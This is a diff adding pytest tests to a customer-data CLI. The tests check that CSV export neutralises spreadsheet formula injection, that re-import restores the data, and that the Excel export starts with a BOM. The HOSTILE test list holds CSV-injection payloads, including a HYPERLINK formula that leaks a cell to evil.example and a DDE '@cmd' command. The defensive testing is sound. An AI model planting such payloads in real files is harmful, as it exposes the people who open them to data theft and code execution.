@@ -657,3 +657,53 @@ async def test_import_never_half_writes_a_chunk(kehu, valid, chunk_size, dry_run
     assert report.rejected == sum(valid) - len(expected)
     assert report.ok is all(valid)
     assert await AuditLog.count() == (0 if dry_run else len(expected))
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@cmd|' /C calc'!A0",
+]
+
+
+def test_export_neutralises_formula_cells_and_reads_them_back(cli, make_cli, tmp_path):
+    cli.ok("team", "add", "North")
+    lines = ["name,industry,region"] + [
+        '"Hostile {}","{}","East"'.format(i, text.replace('"', '""'))
+        for i, text in enumerate(HOSTILE)
+    ]
+    lines.append('"=1+1 Co","-12.50","-5"')  # a name that is a formula; numbers stay numbers
+    cli.ok("import", "customers", write(tmp_path / "hostile.csv", "\n".join(lines) + "\n"))
+    out = tmp_path / "export.csv"
+    cli.ok("export", "customers", "-o", str(out))
+    raw = out.read_text(encoding="utf-8")
+    assert not raw.startswith("\ufeff")
+    with out.open(encoding="utf-8", newline="") as f:
+        rows = {r["name"]: r for r in csv.DictReader(f)}
+    for i, text in enumerate(HOSTILE):
+        assert rows[f"Hostile {i}"]["industry"] == "'" + text
+    assert "'=1+1 Co" in rows and rows["'=1+1 Co"]["industry"] == "-12.50"
+    for row in rows.values():  # no cell a spreadsheet would run
+        assert not any(v.startswith(("=", "+", "@", "\t")) for v in row.values())
+
+    other = make_cli("other")
+    other.ok("team", "add", "North")
+    other.ok("import", "customers", str(out))
+    assert snapshot(other) == snapshot(cli)  # the quote is taken off again
+
+    jsonl = cli.ok("export", "customers", "--format", "jsonl").stdout
+    names = {json.loads(line)["name"] for line in jsonl.splitlines()}
+    assert "=1+1 Co" in names  # JSON is data, not a spreadsheet: unchanged
+
+
+def test_export_for_excel_starts_with_a_bom(cli, tmp_path):
+    cli.ok("team", "add", "North")
+    cli.ok("import", "customers", write(tmp_path / "c.csv", "name,region\n北京客户,华北\n"))
+    out = tmp_path / "excel.csv"
+    cli.ok("export", "customers", "--excel", "-o", str(out))
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert "北京客户" in data.decode("utf-8-sig")
+    stdout = cli.ok("export", "contacts", "--excel").stdout
+    assert stdout.startswith("\ufeff")
